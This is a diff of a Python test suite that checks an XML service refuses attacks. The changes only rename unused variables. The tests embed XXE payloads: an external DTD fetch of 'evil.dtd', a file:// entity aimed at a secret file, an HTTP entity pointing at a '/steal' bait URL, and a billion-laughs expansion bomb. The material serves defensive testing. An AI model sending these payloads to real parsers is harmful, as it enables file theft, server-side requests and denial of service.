@@ -69,7 +69,7 @@ def test_an_external_dtd_is_never_fetched(sim: Sim, bait: Bait):
 
 def test_an_external_parameter_entity_is_never_fetched(sim: Sim, bait: Bait):
     dtd = f'<!DOCTYPE x [<!ENTITY % remote SYSTEM "{bait.url}/evil.dtd"> %remote;]>'
-    status, detail, body = post(sim, dtd + ENVELOPE.format(value="&stolen;"))
+    _, detail, _ = post(sim, dtd + ENVELOPE.format(value="&stolen;"))
 
     assert detail["code"] == "B0001"
     assert bait.requests == []
@@ -80,7 +80,7 @@ def test_an_xxe_pointing_at_a_local_file_leaks_nothing(sim: Sim, tmp_path: Path)
     secret.write_text("TOP-SECRET-CONTENT")
     dtd = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'
 
-    status, detail, body = post(sim, dtd + ENVELOPE.format(value="&xxe;"))
+    _, detail, body = post(sim, dtd + ENVELOPE.format(value="&xxe;"))
 
     assert detail["code"] == "B0001"
     assert b"TOP-SECRET" not in body
@@ -89,7 +89,7 @@ def test_an_xxe_pointing_at_a_local_file_leaks_nothing(sim: Sim, tmp_path: Path)
 def test_an_xxe_over_http_is_never_fetched(sim: Sim, bait: Bait):
     dtd = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{bait.url}/steal">]>'
 
-    status, detail, body = post(sim, dtd + ENVELOPE.format(value="&xxe;"))
+    _, detail, _ = post(sim, dtd + ENVELOPE.format(value="&xxe;"))
 
     assert detail["code"] == "B0001"
     assert bait.requests == []
@@ -99,7 +99,7 @@ def test_a_billion_laughs_is_refused(sim: Sim):
     entities = '<!ENTITY a "ha">' + "".join(
         f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
     )
-    status, detail, body = post(sim, f"<!DOCTYPE x [{entities}]>" + ENVELOPE.format(value="&j;"))
+    _, detail, body = post(sim, f"<!DOCTYPE x [{entities}]>" + ENVELOPE.format(value="&j;"))
 
     assert detail["code"] == "B0001"
     assert len(body) < 2000
